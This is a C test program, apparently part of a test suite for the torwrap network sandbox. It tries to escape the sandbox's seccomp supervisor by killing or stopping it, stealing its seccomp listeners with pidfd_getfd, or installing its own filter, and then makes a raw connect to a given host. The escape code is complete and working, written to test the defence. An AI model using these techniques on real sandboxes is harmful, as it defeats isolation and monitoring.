/* hostile_sv.c: class 5 of issue 25: the supervisor removed from inside, then a connect out.
 *
 * Under torwrap a seccomp filter hands the program's connects to the supervisor in the torwrap process (its
 * parent). A hostile program can find it under /proc, since it is an ancestor, and try to take it out of the way:
 *   hostile_sv kill HOST PORT    SIGKILL torwrap and everything it forked, then connect to HOST:PORT
 *   hostile_sv stop HOST PORT    SIGSTOP them, connect (given up after 2 s), SIGCONT them
 *   hostile_sv steal HOST PORT   SIGSTOP them, take their seccomp listeners with pidfd_getfd, answer every
 *                                notification itself with SECCOMP_USER_NOTIF_FLAG_CONTINUE, connect, SIGCONT
 *   hostile_sv own HOST PORT     install a filter of its own with SECCOMP_FILTER_FLAG_NEW_LISTENER whose
 *                                notifications a thread of its own answers with CONTINUE, then connect
 * Only torwrap (the nearest ancestor whose executable is named torwrap) and its descendants are ever signalled:
 * where there is none (no torwrap, or LD_PRELOAD alone) the steps say so and the connect is tried all the same.
 * The connect is a raw system call (no libc, no cookie). Each step prints what it got; the verdict is the wire.
 */
#include <dirent.h>
#include <limits.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/syscall.h>

#include "hostile.h"

#ifndef SECCOMP_USER_NOTIF_FLAG_CONTINUE
#define SECCOMP_USER_NOTIF_FLAG_CONTINUE (1UL << 0)
#endif
#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

#define MAX_TARGETS 64

static pid_t parent_of(pid_t pid)
{
	char path[64], buf[512];
	snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
	FILE *f = fopen(path, "r");
	if (!f)
		return 0;
	size_t n = fread(buf, 1, sizeof(buf) - 1, f);
	fclose(f);
	buf[n] = '\0';
	char *p = strrchr(buf, ')'); /* the command name may hold anything: the fields follow the last ')' */
	int ppid = 0;
	if (!p || sscanf(p + 1, " %*c %d", &ppid) != 1)
		return 0;
	return ppid;
}

static bool exe_is_torwrap(pid_t pid)
{
	char path[64], exe[PATH_MAX];
	snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
	ssize_t n = readlink(path, exe, sizeof(exe) - 1);
	if (n <= 0)
		return false;
	exe[n] = '\0';
	const char *base = strrchr(exe, '/');
	return strcmp(base ? base + 1 : exe, "torwrap") == 0;
}

static bool descends_from(pid_t pid, pid_t ancestor)
{
	for (int depth = 0; pid > 1 && depth < 64; depth++) {
		pid = parent_of(pid);
		if (pid == ancestor)
			return true;
	}
	return false;
}

/* torwrap (the nearest ancestor so named) and everything it forked but us and our own ancestors. */
static int find_supervisors(pid_t *out)
{
	pid_t me = getpid(), top = 0;
	for (pid_t p = getppid(); p > 1; p = parent_of(p))
		if (exe_is_torwrap(p)) {
			top = p;
			break;
		}
	if (top == 0) {
		printf("supervisor: no torwrap among my ancestors\n");
		fflush(stdout);
		return 0;
	}
	int n = 0;
	out[n++] = top;
	DIR *d = opendir("/proc");
	struct dirent *e;
	while (d && (e = readdir(d)) != NULL && n < MAX_TARGETS) {
		pid_t q = (pid_t)atoi(e->d_name);
		if (q <= 1 || q == me || q == top || !descends_from(q, top) || descends_from(me, q))
			continue;
		out[n++] = q;
	}
	if (d)
		closedir(d);
	for (int i = 0; i < n; i++)
		printf("supervisor: pid %d%s\n", (int)out[i], i == 0 ? " (torwrap)" : " (forked by torwrap)");
	fflush(stdout);
	return n;
}

static void signal_all(const pid_t *t, int n, int sig, const char *name)
{
	for (int i = 0; i < n; i++) {
		char what[64];
		snprintf(what, sizeof(what), "%s pid %d", name, (int)t[i]);
		step_libc(what, kill(t[i], sig));
	}
}

/* Until every thread of every target is stopped (a signal is delivered after kill returns: a supervisor still
 * running could take the next notification), at most 2 s. */
static void wait_stopped(const pid_t *t, int n)
{
	for (int tries = 0; tries < 200; tries++) {
		bool all = true;
		for (int i = 0; i < n && all; i++) {
			char dir[64];
			snprintf(dir, sizeof(dir), "/proc/%d/task", (int)t[i]);
			DIR *d = opendir(dir);
			struct dirent *e;
			while (d && (e = readdir(d)) != NULL && all) {
				if (e->d_name[0] == '.')
					continue;
				char path[PATH_MAX], buf[512];
				snprintf(path, sizeof(path), "%s/%s/stat", dir, e->d_name);
				FILE *f = fopen(path, "r");
				size_t len = f ? fread(buf, 1, sizeof(buf) - 1, f) : 0;
				if (f)
					fclose(f);
				buf[len] = '\0';
				char *p = strrchr(buf, ')');
				if (p && p[1] == ' ' && p[2] != 'T' && p[2] != 't')
					all = false;
			}
			if (d)
				closedir(d);
		}
		if (all) {
			printf("stopped: every thread\n");
			fflush(stdout);
			return;
		}
		usleep(10000);
	}
	printf("stopped: not every thread after 2 s\n");
	fflush(stdout);
}

/* ----------------------------------------------------------------------- answering notifications ourselves */

static struct {
	int fd[16];
	int n;
	atomic_int stop;
} listeners;

static void *answer_continue(void *unused)
{
	(void)unused;
	struct seccomp_notif_sizes sz;
	if (syscall(SYS_seccomp, SECCOMP_GET_NOTIF_SIZES, 0, &sz) != 0)
		return NULL;
	struct seccomp_notif *req = calloc(1, sz.seccomp_notif > sizeof(*req) ? sz.seccomp_notif : sizeof(*req));
	struct seccomp_notif_resp *resp =
		calloc(1, sz.seccomp_notif_resp > sizeof(*resp) ? sz.seccomp_notif_resp : sizeof(*resp));
	struct pollfd p[16];
	while (req && resp && !atomic_load(&listeners.stop)) {
		for (int i = 0; i < listeners.n; i++)
			p[i] = (struct pollfd){ .fd = listeners.fd[i], .events = POLLIN };
		if (poll(p, (nfds_t)listeners.n, 100) <= 0)
			continue;
		for (int i = 0; i < listeners.n; i++) {
			if (!(p[i].revents & POLLIN))
				continue;
			memset(req, 0, sz.seccomp_notif);
			if (ioctl(listeners.fd[i], SECCOMP_IOCTL_NOTIF_RECV, req) != 0)
				continue;
			memset(resp, 0, sz.seccomp_notif_resp);
			resp->id = req->id;
			resp->flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
			int rc = ioctl(listeners.fd[i], SECCOMP_IOCTL_NOTIF_SEND, resp);
			printf("answered system call %d of pid %u with CONTINUE: %s\n", req->data.nr, req->pid,
			       rc == 0 ? "OK" : hostile_errname(errno));
			fflush(stdout);
		}
	}
	return NULL;
}

static bool is_listener(const char *dir, const char *name)
{
	char path[PATH_MAX], target[128];
	snprintf(path, sizeof(path), "%s/%s", dir, name);
	ssize_t len = readlink(path, target, sizeof(target) - 1);
	if (len <= 0)
		return false;
	target[len] = '\0';
	return strcmp(target, "anon_inode:seccomp notify") == 0;
}

/* Until one of the targets holds a seccomp listener, at most 2 s: torwrap receives it from the program's side
 * (a descriptor in flight on a socket) while the program starts, and holds it from then on. */
static void wait_listener(const pid_t *t, int n)
{
	for (int tries = 0; tries < 200; tries++) {
		for (int i = 0; i < n; i++) {
			char dir[64];
			snprintf(dir, sizeof(dir), "/proc/%d/fd", (int)t[i]);
			DIR *d = opendir(dir);
			struct dirent *e;
			bool found = false;
			while (d && (e = readdir(d)) != NULL && !found)
				found = is_listener(dir, e->d_name);
			if (d)
				closedir(d);
			if (found) {
				printf("listener: held by pid %d\n", (int)t[i]);
				fflush(stdout);
				return;
			}
		}
		usleep(10000);
	}
	printf("listener: held by none of them after 2 s\n");
	fflush(stdout);
}

/* Every seccomp listener the targets hold, duplicated into this process with pidfd_getfd. */
static void steal_listeners(const pid_t *t, int n)
{
	for (int i = 0; i < n; i++) {
		char dir[64];
		snprintf(dir, sizeof(dir), "/proc/%d/fd", (int)t[i]);
		DIR *d = opendir(dir);
		struct dirent *e;
		while (d && (e = readdir(d)) != NULL && listeners.n < 16) {
			if (!is_listener(dir, e->d_name))
				continue;
			int pidfd = (int)syscall(SYS_pidfd_open, t[i], 0);
			char what[96];
			snprintf(what, sizeof(what), "pidfd_getfd(pid %d, listener %d)", (int)t[i], atoi(e->d_name));
			int fd = pidfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, atoi(e->d_name), 0);
			if (step_libc(what, fd) >= 0)
				listeners.fd[listeners.n++] = fd;
		}
		if (d)
			closedir(d);
	}
	if (listeners.n == 0)
		printf("listeners stolen: none\n");
	fflush(stdout);
}

/* A filter of our own: connect goes to our own listener. */
static int own_listener(void)
{
	struct sock_filter f[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_connect, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog prog = { .len = sizeof(f) / sizeof(f[0]), .filter = f };
	step_libc("prctl(PR_SET_NO_NEW_PRIVS)", prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0));
	int fd = (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
	if (step_libc("seccomp(NEW_LISTENER) on connect", fd) >= 0)
		listeners.fd[listeners.n++] = fd;
	return fd;
}

/* ------------------------------------------------------------------------------------------- the connect */

static struct sockaddr_in dest;
static atomic_int connect_done;
static long connect_rc;

static void *connect_out(void *unused)
{
	(void)unused;
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	connect_rc = fd < 0 ? -errno : raw_syscall6(SYS_connect, fd, (long)&dest, sizeof(dest), 0, 0, 0);
	atomic_store(&connect_done, 1);
	if (connect_rc == 0)
		hostile_http(fd);
	return NULL;
}

/* Waits at most TENTHS tenths of a second for the connect's thread; true when it finished. */
static bool connect_wait(int tenths, const char *what)
{
	for (int i = 0; i < tenths && !atomic_load(&connect_done); i++)
		usleep(100000);
	if (atomic_load(&connect_done)) {
		step_raw(what, connect_rc);
		return true;
	}
	printf("%s: still waiting\n", what);
	fflush(stdout);
	return false;
}

int main(int argc, char **argv)
{
	if (argc != 4) {
		fprintf(stderr, "usage: hostile_sv kill|stop|steal|own HOST PORT\n");
		return 2;
	}
	hostile_start(argc, argv);
	hostile_addr(argv[2], argv[3], &dest);
	const char *how = argv[1];
	pid_t sv[MAX_TARGETS];
	int nsv = strcmp(how, "own") == 0 ? 0 : find_supervisors(sv);
	pthread_t th, answerer;
	bool answering = false;

	if (strcmp(how, "kill") == 0) {
		signal_all(sv, nsv, SIGKILL, "SIGKILL");
	} else if (strcmp(how, "stop") == 0 || strcmp(how, "steal") == 0) {
		if (nsv > 0 && strcmp(how, "steal") == 0)
			wait_listener(sv, nsv);
		signal_all(sv, nsv, SIGSTOP, "SIGSTOP");
		if (nsv > 0)
			wait_stopped(sv, nsv);
		if (strcmp(how, "steal") == 0)
			steal_listeners(sv, nsv);
	} else if (strcmp(how, "own") == 0) {
		own_listener();
	} else {
		fprintf(stderr, "hostile_sv: unknown attack %s\n", how);
		return 2;
	}
	if (listeners.n > 0)
		answering = pthread_create(&answerer, NULL, answer_continue, NULL) == 0;

	pthread_create(&th, NULL, connect_out, NULL);
	bool done = connect_wait(20, "raw connect");
	if (strcmp(how, "stop") == 0 || strcmp(how, "steal") == 0) {
		signal_all(sv, nsv, SIGCONT, "SIGCONT");
		if (!done)
			connect_wait(30, "raw connect, after SIGCONT");
	}
	if (answering) {
		atomic_store(&listeners.stop, 1);
		pthread_join(answerer, NULL);
	}
	if (atomic_load(&connect_done))
		pthread_join(th, NULL);
	else
		printf("raw connect: never returned\n");
	fflush(stdout);
	_exit(0); /* a connect still waiting ends with us */
}
